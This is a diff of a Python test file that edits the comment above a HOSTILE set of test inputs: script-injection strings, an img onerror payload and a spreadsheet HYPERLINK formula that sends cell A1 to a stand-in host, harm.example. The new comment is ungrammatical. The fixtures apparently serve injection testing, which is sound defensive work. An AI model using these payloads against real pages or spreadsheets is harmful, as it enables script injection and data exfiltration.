@@ -32,7 +32,7 @@ def write_news(folder: Path, count: int, day: str = "2016-12-11") -> Path:
     return folder
 
 
-#: Headlines and sentences that mean harm to a page, a spreadsheet or a reader's eye; each sentence tells of people killed.
+#: Headlines and sentences that mean harm to a page, a spreadsheet or a reader's eye; each text tells of killed.
 HOSTILE = {
     "script": ("</script><script>window.harmed = 1</script>", "<img src=x onerror=window.harmed=1>"),
     "formula": ('=HYPERLINK("http://harm.example/?"&A1, "open")', "\"&'<b>قولا</b> --><!--"),
